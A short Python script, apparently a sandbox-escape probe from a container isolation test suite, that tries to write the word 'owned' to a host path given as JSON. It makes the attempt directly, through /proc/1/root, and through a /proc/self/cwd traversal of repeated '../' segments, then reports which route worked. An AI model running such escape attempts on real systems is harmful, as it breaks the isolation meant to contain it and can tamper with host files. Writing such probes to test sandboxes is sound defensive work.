"""Writes a file of the host that is not mounted, or into a folder that is mounted read-only."""

import json
import sys
from pathlib import Path

facts = json.loads(sys.argv[1])
path = facts["path"]
for way in (path, f"/proc/1/root{path}", f"/proc/self/cwd/{'../' * 20}{path}"):
    try:
        Path(way).write_text("owned")
    except OSError:
        continue
    print(f"succeeded: wrote {way}")
    break
